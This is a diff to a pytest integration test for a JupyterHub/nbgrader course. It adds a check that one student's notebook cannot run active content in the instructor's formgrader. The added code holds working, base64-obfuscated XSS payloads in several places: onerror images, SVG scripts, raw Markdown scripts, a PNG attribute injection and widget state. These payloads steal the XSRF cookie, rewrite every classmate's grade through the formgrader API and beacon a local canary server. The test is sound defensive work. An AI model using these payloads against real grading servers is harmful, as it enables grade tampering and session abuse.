@@ -24,6 +24,21 @@ a rebound checker with no code (trial D1/F: 0), and a correct answer with patche
 imports the checkers' module).
 The exported scores per exercise are asserted exactly.
 
+Student B's submission also carries active content (trial v4, D2: a submission's HTML ran in
+the instructor's formgrader and rewrote every classmate's grade): a never-graded scratch cell
+that displays HTML with an event handler, JavaScript, an SVG with a script, Markdown with raw
+HTML, a PNG whose metadata writes an event handler into its ``<img>`` and a widget view; a
+markdown cell with a raw ``<script>`` and an ``onerror``; widget state in the notebook's
+metadata. Each payload marks the page (``window.__pwned``, the title), calls a canary URL that
+the test serves, and sets every classmate's score to 0 and B's to full marks through the
+formgrader's API. Before ``export``, the instructor opens each view of that submission in
+Chromium (the formgrader's page of it, the gradebook's list, the student's list, and B's
+feedback page in the instructor's server), authenticated with the instructor's token: no
+payload may run, the canary gets no request, no grade changes, and each page shows B's work.
+The instructor's ``~/.jupyter/nbgrader_config.py`` also turns on nbconvert's
+``HTMLExporter.sanitize_html`` (the formgrader reads that file, not the course's), and the
+formgrader's own page of its configuration shows it loaded.
+
 Every user's server and the instructor's commands run on the book's environment: when its
 Python is not readable by other accounts (a pyenv Python under /root), the test copies the
 interpreter and its standard library into its temporary folder, and a ``.pth`` file there
@@ -36,6 +51,7 @@ import csv
 import json
 import os
 import pwd
+import re
 import secrets
 import shutil
 import signal
@@ -44,14 +60,18 @@ import subprocess
 import sys
 import sysconfig
 import tempfile
+import threading
 import time
 import urllib.error
 import urllib.parse
 import urllib.request
+from base64 import b64encode
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import nbformat
 import pytest
+from playwright.sync_api import TimeoutError as PlaywrightTimeoutError
 
 from attention_book.classroom.hub import course_roster_lines, exchange_config, jupyterhub_config
 from attention_book.classroom.simulate import PATCH_HELPERS, code_exercises, rebind_checkers
@@ -64,6 +84,7 @@ PROXY = ROOT / "node_modules" / ".bin" / "configurable-http-proxy"
 # busy machine (at a load average of 22 on 2 cores one `generate` took over 300 s).
 WAIT_LIMIT_S = 600  # the hub to answer, a user's server to start, one API call
 STEP_LIMIT_S = 1200  # one command run as a user (generate, autograde, feedback)
+READY_LIMIT_S = 180  # a formgrader page to draw what it shows, once loaded
 
 
 # --------------------------------------------------------------------------- helpers
@@ -297,10 +318,188 @@ def _b_answers(exercises) -> tuple[dict[str, str], dict[str, float]]:
     return answers, expected
 
 
+# --------------------------------------------------------------------------- active content
+
+VISIBLE_OUTPUT = "printed by B's scratch cell"  # what the pages must still show
+VISIBLE_NOTES = "Notes written by B"
+ATTACK_JS = """(async function () {
+  var kind = %(kind)s;
+  window.__pwned = (window.__pwned || []).concat([kind]);
+  document.title = 'PWNED ' + kind;
+  new Image().src = %(canary)s + '/ran/' + kind;
+  var base = location.pathname.split('/formgrader')[0].split('/files/')[0];
+  var xsrf = decodeURIComponent((document.cookie.match(/(?:^|; )_xsrf=([^;]*)/) || ['', ''])[1]);
+  var headers = {'Content-Type': 'application/json', 'X-XSRFToken': xsrf};
+  var url = base + '/formgrader/api/submitted_notebooks/' + %(assignment)s + '/' + %(assignment)s;
+  var notebooks = await (await fetch(url, {headers: headers})).json();
+  for (var notebook of notebooks) {
+    var grades = await (await fetch(base + '/formgrader/api/grades?submission_id=' + notebook.id,
+                                    {headers: headers})).json();
+    for (var grade of grades) {
+      await fetch(base + '/formgrader/api/grade/' + grade.id, {method: 'PUT', headers: headers,
+        body: JSON.stringify({manual_score: notebook.student === %(cheater)s ? grade.max_score : 0,
+                              extra_credit: null})});
+    }
+  }
+  new Image().src = %(canary)s + '/changed-grades/' + kind;
+})();"""
+
+
+def _png() -> str:
+    """A 1x1 grey PNG, base64."""
+    import struct
+    import zlib
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return (struct.pack(">I", len(data)) + kind + data
+                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
+
+    return b64encode(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0,
+                                                                        0, 0))
+                     + chunk(b"IDAT", zlib.compress(b"\x00\x80")) + chunk(b"IEND", b"")).decode()
+
+
+def _active_content(canary: str, assignment: str, cheater: str) -> tuple[list[dict], dict]:
+    """B's extra cells and notebook metadata, each payload tagged with its kind."""
+
+    def js(kind: str) -> str:
+        return ATTACK_JS % {"kind": json.dumps(kind), "canary": json.dumps(canary),
+                            "assignment": json.dumps(assignment), "cheater": json.dumps(cheater)}
+
+    def handler(kind: str) -> str:  # an event handler's body: no quotes, no spaces needed
+        return f"eval(atob('{b64encode(js(kind).encode()).decode()}'))"
+
+    html_output = f'<img src="x-missing" onerror="{handler("html-output")}">'
+    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{handler("svg-onload")}">'
+           f'<script>{js("svg-script")}</script></svg>')
+    markdown_output = f'<img src="x-missing" onerror="{handler("markdown-output")}">'
+    figure_alt = b64encode(js("png-width-attribute").encode()).decode()
+    widget = {"model_id": "abk-widget", "version_major": 2, "version_minor": 0}
+    scratch = "\n".join([
+        "from IPython.display import HTML, SVG, Javascript, Markdown, display",
+        f"print({VISIBLE_OUTPUT!r})",
+        f"display(HTML({html_output!r}))",
+        f"display(Javascript({js('javascript-output')!r}))",
+        f"display(SVG({svg!r}))",
+        f"display(Markdown({markdown_output!r}))",
+        f"display({{'image/png': {_png()!r}, 'text/plain': 'a figure'}}, raw=True, metadata="
+        f"{{'image/png': {{'width': '1 onload=eval(atob(this.alt))', 'alt': {figure_alt!r}}}}})",
+        f"display({{'application/vnd.jupyter.widget-view+json': {widget!r}, "
+        "'text/plain': 'a widget'}, raw=True)",
+    ])
+    notes = (f"{VISIBLE_NOTES}, with an inline <img src=\"x-missing\" onerror=\""
+             f"{handler('markdown-inline')}\"> and a script of their own:\n\n"
+             f"<script>\n{js('markdown-script')}\n</script>\n\n"
+             f'<div><img src="x-missing" onerror="{handler("markdown-block")}"></div>\n')
+    cells = [{"cell_type": "code", "metadata": {}, "source": scratch, "outputs": [],
+              "execution_count": None},
+             {"cell_type": "markdown", "metadata": {}, "source": notes}]
+    state = {"version_major": 2, "version_minor": 0, "state": {"abk-widget": {
+        "model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
+        "model_module_version": "2.0.0",
+        "state": {"value": f'<img src="x-missing" onerror="{handler("widget-state")}">'}}}}
+    return cells, {"widgets": {"application/vnd.jupyter.widget-state+json": state}}
+
+
+class Canary:
+    """A local HTTP server that counts every request (a payload that ran calls it)."""
+
+    def __init__(self):
+        hits = self.hits = []
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self):  # noqa: N802 - the base class's name
+                hits.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            def log_message(self, format, *args):  # noqa: A002 - the base class's name
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_port}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def _gradebook(course: Path) -> list[tuple]:
+    """Every grade of the course (student, grade id, auto, manual, extra credit), read-only."""
+    import sqlite3
+
+    with sqlite3.connect(f"file:{course / 'gradebook.db'}?mode=ro", uri=True) as db:
+        return db.execute(
+            "SELECT a.student_id, c.name, g.auto_score, g.manual_score, g.extra_credit "
+            "FROM grade g JOIN base_cell c ON g.cell_id = c.id "
+            "JOIN submitted_notebook n ON g.notebook_id = n.id "
+            "JOIN submitted_assignment a ON n.assignment_id = a.id ORDER BY 1, 2").fetchall()
+
+
+PAGE_STATE_JS = """() => ({
+  pwned: window.__pwned || null,
+  title: document.title,
+  handlers: [...document.querySelectorAll('*')].flatMap(element => [...element.attributes]
+      .filter(a => a.name.startsWith('on') && !/^toggle(_name|AllNames)\\(/.test(a.value))
+      .map(a => element.tagName + ' ' + a.name + '=' + a.value.slice(0, 60))),
+  scripts: [...document.scripts].map(s => (s.src || s.type + ' ' + s.text).slice(0, 120))
+      .filter(t => /atob|__pwned|widget|unpkg|require/.test(t)),
+  text: document.body ? document.body.innerText : '',
+  scores: [...document.querySelectorAll('input.score')].map(input => input.placeholder),
+  formgrader: window.formgrader ? {loaded: formgrader.loaded, grades: !!(formgrader.grades
+      && formgrader.grades.loaded), comments: !!(formgrader.comments
+      && formgrader.comments.loaded)} : null,
+})"""
+
+
+def _visit_as_instructor(browser, hub: Hub, token: str, views: list[tuple]) -> dict[str, dict]:
+    """Open each view in Chromium as the instructor; what each page ran and showed.
+
+    ``views``: ``(label, path, ready)`` with ``ready`` a JavaScript condition that holds once
+    the page has drawn what it shows. Requests to any other host are refused and recorded.
+    """
+    context = browser.new_context(extra_http_headers={"Authorization": f"token {token}"})
+    elsewhere: list[str] = []
+
+    def local_only(route):
+        if urllib.parse.urlsplit(route.request.url).hostname == "127.0.0.1":
+            route.continue_()
+        else:
+            elsewhere.append(route.request.url)
+            route.abort()
+
+    context.route("**/*", local_only)
+    seen = {}
+    try:
+        for label, path, ready in views:
+            page = context.new_page()
+            errors: list[str] = []
+            page.on("pageerror", lambda error, errors=errors: errors.append(str(error)[:300]))
+            page.on("console", lambda message, errors=errors: errors.append(
+                f"console {message.type}: {message.text[:300]}") if message.type == "error"
+                else None)
+            response = page.goto(hub.url + path, wait_until="networkidle",
+                                 timeout=WAIT_LIMIT_S * 1000)
+            try:  # a page whose own scripts a payload broke never gets ready: say so, go on
+                page.wait_for_function(ready, timeout=READY_LIMIT_S * 1000)
+                drawn = True
+            except PlaywrightTimeoutError:
+                drawn = False
+            page.wait_for_load_state("networkidle", timeout=WAIT_LIMIT_S * 1000)
+            seen[label] = {**page.evaluate(PAGE_STATE_JS), "status": response.status,
+                           "errors": errors, "drawn": drawn}
+            page.close()
+    finally:
+        context.close()
+    seen["elsewhere"] = {"requests": [url for url in elsewhere if "/mathjax/" not in url]}
+    return seen
+
+
 # --------------------------------------------------------------------------- the test
 
 
-def test_a_course_on_jupyterhub():
+def test_a_course_on_jupyterhub(browser):
     assert os.geteuid() == 0, ("this test creates Unix accounts for JupyterHub and must run "
                                "as root (as on the project's machines and in CI)")
     assert PROXY.exists(), f"{PROXY} is missing: run `npm ci` (make test does)"
@@ -309,6 +508,7 @@ def test_a_course_on_jupyterhub():
     hub = Hub(base)
     suffix = secrets.token_hex(3)
     opened = _open_for_traversal([ROOT, Path(sys.prefix)])
+    canary = Canary()
     try:
         (base / "home").mkdir(mode=0o755)
         python, python_env = _user_python(base)
@@ -347,7 +547,8 @@ def test_a_course_on_jupyterhub():
         shutil.chown(course, instructor, instructor)
         (home / ".jupyter").mkdir()
         (home / ".jupyter" / "nbgrader_config.py").write_text(
-            f"c = get_config()  # noqa: F821\nc.CourseDirectory.root = {str(course)!r}\n")
+            f"c = get_config()  # noqa: F821\nc.CourseDirectory.root = {str(course)!r}\n"
+            "c.HTMLExporter.sanitize_html = True\n")  # the formgrader reads this file (guide)
         for path in (home / ".jupyter", home / ".jupyter" / "nbgrader_config.py"):
             shutil.chown(path, instructor, instructor)
         hub.run_as(instructor, str(python), "-m", "attention_book.classroom", "generate",
@@ -387,6 +588,10 @@ def test_a_course_on_jupyterhub():
                 grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
                 if grade_id in answers[student]:
                     cell.source = answers[student][grade_id]
+            if student == student_b:  # active content, never graded (see the module docstring)
+                cells, metadata = _active_content(canary.url, assignment, student_b)
+                notebook.cells += [nbformat.from_dict(cell) for cell in cells]
+                notebook.metadata.update(metadata)
             hub.api("PUT", f"/user/{student}/api/contents/{path}",
                     {"type": "notebook", "format": "json", "content": notebook}, token=token)
             submitted = hub.api("POST", f"/user/{student}/assignments/submit",
@@ -412,6 +617,67 @@ def test_a_course_on_jupyterhub():
                    cwd=course, env=env)
         hub.run_as(instructor, str(python), "-m", "nbgrader", "release_feedback", assignment,
                    cwd=course, env=env)
+
+        # The formgrader is a page of the instructor's server (trial D7).
+        instructor_token = hub.wait_server(instructor)
+        formgrader = f"/user/{instructor}/formgrader"
+        page = hub.api("GET", formgrader, token=instructor_token)
+        assert "Formgrader" in page or "formgrader" in page
+        listed = hub.api("GET", f"{formgrader}/api/assignments", token=instructor_token)
+        assert isinstance(listed, list), str(listed)[:1000]
+        assert [a["name"] for a in listed] == [assignment]
+        # nbconvert's sanitiser is on in the formgrader too (the page shows its loaded config)
+        config = hub.api("GET", f"{formgrader}/manage_assignments", token=instructor_token)
+        shown = re.search(r"(?s)<pre[^>]*>(.*?)</pre>", config)
+        assert shown and re.search(r"""["']sanitize_html["']: (?:true|True)\b""", shown[1]), \
+            shown[1] if shown else config[:3000]
+
+        # The instructor opens B's submission, which carries active content (trial D2), in
+        # Chromium, before `export`: the export below would show any grade a payload changed.
+        notebooks = hub.api("GET", f"{formgrader}/api/submitted_notebooks/{assignment}/"
+                            f"{assignment}", token=instructor_token)
+        b_notebook = next(n["id"] for n in notebooks if n["student"] == student_b)
+        grades_before = _gradebook(course)
+        feedback_page = "B's feedback page, in the instructor's server"
+        seen = _visit_as_instructor(browser, hub, instructor_token, [
+            # the formgrader's own script has fetched the grades and comments and drawn them
+            # (its init stops later here: MathJax comes from a CDN this network cannot reach)
+            ("B's submission in the formgrader", f"{formgrader}/submissions/{b_notebook}/",
+             "() => window.formgrader && formgrader.grades && formgrader.grades.loaded "
+             "&& formgrader.comments && formgrader.comments.loaded"),
+            ("the gradebook's list of submissions", f"{formgrader}/gradebook/{assignment}/"
+             f"{assignment}", "() => document.querySelectorAll('td.name').length >= 2"),
+            ("B's submissions", f"{formgrader}/manage_students/{student_b}/{assignment}",
+             "() => document.querySelectorAll('td.name').length >= 1"),
+            (feedback_page, f"/user/{instructor}/files/course/feedback/{student_b}/{assignment}/"
+             f"{assignment}.html", "() => document.readyState === 'complete'"),
+        ])
+        hub.lap("the instructor's views of B's submission in Chromium")
+        problems = [f"{label}: {key}: {state[key]}" for label, state in seen.items()
+                    for key in ("pwned", "handlers", "scripts", "requests") if state.get(key)]
+        problems += [f"{label}: the title is {state['title']!r}" for label, state in seen.items()
+                     if "PWNED" in state.get("title", "")]
+        if canary.hits:
+            problems.append(f"the canary was called: {sorted(set(canary.hits))}")
+        changed = sorted(set(_gradebook(course)) ^ set(grades_before), key=repr)
+        if changed:
+            problems.append(f"{len(changed)} grade rows changed in the gradebook, e.g. "
+                            f"{changed[:6]}")
+        assert not problems, "B's active content ran in the instructor's browser:\n" + \
+            "\n".join(problems) + "\n" + "\n".join(
+                f"{label}: drawn {state.get('drawn')}, formgrader {state.get('formgrader')}, "
+                f"errors {state.get('errors')}" for label, state in seen.items())
+        # ... and each page was the real one, showing B's work.
+        submission = seen["B's submission in the formgrader"]
+        assert submission["status"] == 200, submission
+        assert VISIBLE_OUTPUT in submission["text"] and VISIBLE_NOTES in submission["text"]
+        assert all(state["drawn"] and state["status"] == 200 for label, state in seen.items()
+                   if label != "elsewhere"), seen
+        assert len(submission["scores"]) == sum(len(e.check_ids) for e in exercises)
+        assert all(submission["scores"]), submission  # the formgrader's script showed them
+        assert VISIBLE_OUTPUT in seen[feedback_page]["text"]
+        assert "Points for this check" in seen[feedback_page]["text"]
+
         hub.run_as(instructor, *classroom, "export", "--course-dir", str(course), cwd=course,
                    env=env)
 
@@ -439,15 +705,8 @@ def test_a_course_on_jupyterhub():
         html = _contents(hub, student_b, token, html_path)["content"]
         assert "BEGIN HIDDEN TESTS" not in html and "Not counted" in html
         assert str(course) not in html and "site-packages" not in html
-
-        # The formgrader is a page of the instructor's server (trial D7).
-        token = hub.wait_server(instructor)
-        page = hub.api("GET", f"/user/{instructor}/formgrader", token=token)
-        assert "Formgrader" in page or "formgrader" in page
-        listed = hub.api("GET", f"/user/{instructor}/formgrader/api/assignments", token=token)
-        assert isinstance(listed, list), str(listed)[:1000]
-        assert [a["name"] for a in listed] == [assignment]
     finally:
+        canary.close()
         hub.close()
         _restore_modes(opened)
         hub.lap("clean up")
